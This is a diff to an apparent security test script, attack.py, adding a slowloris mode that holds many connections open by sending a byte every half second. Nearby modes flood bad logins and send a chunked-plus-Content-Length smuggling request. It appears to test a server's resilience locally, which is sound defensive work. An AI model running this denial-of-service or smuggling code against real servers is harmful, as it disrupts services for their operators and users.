@@ -12,6 +12,11 @@ limits hit the attacker and not the test's own clients on 127.0.0.1.
                                              request line, held SECONDS
   attack.py logins PORT SRC N USER...        N parallel bad logins (users in turn)
   attack.py raw PORT SRC                     send stdin as is; print the reply
+  attack.py slowloris PORT SRC N SECONDS head|body
+                                             N connections trickling a request
+                                             head (or a login body) a byte every
+                                             0.5 s; prints how many the server
+                                             closed and the longest one lived
   attack.py clte PORT SRC                    a chunked login that also carries
                                              a matching Content-Length; print the reply
 """
@@ -167,6 +172,43 @@ def raw(port, src):
     s.close()
 
 
+def slowloris(port, src, n, seconds, mode):
+    if mode == "head":
+        start = b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\nX-Pad: "
+    else:
+        start = (b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\n"
+                 b"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{")
+    socks = {}
+    t0 = time.monotonic()
+    for i in range(n):
+        s = connect(port, src, timeout=5)
+        s.sendall(start)
+        socks[i] = s
+    lived = 0.0
+    closed = 0
+    while socks and time.monotonic() - t0 < seconds:
+        time.sleep(0.5)
+        for i, s in list(socks.items()):
+            try:
+                s.sendall(b"a")
+                s.setblocking(False)
+                try:
+                    gone = s.recv(4096) == b""
+                except BlockingIOError:
+                    gone = False
+                s.setblocking(True)
+            except OSError:
+                gone = True
+            if gone:
+                lived = max(lived, time.monotonic() - t0)
+                closed += 1
+                s.close()
+                del socks[i]
+    for s in socks.values():
+        s.close()
+    print(json.dumps({"closed": closed, "open": len(socks), "longest_s": round(lived, 1)}))
+
+
 def clte(port, src):
     body = b'{"username": "a", "password": "b"}'
     chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
@@ -187,6 +229,8 @@ def main():
         logins(port, src, int(sys.argv[4]), sys.argv[5:])
     elif cmd == "raw":
         raw(port, src)
+    elif cmd == "slowloris":
+        slowloris(port, src, int(sys.argv[4]), float(sys.argv[5]), sys.argv[6])
     elif cmd == "clte":
         clte(port, src)
     else:
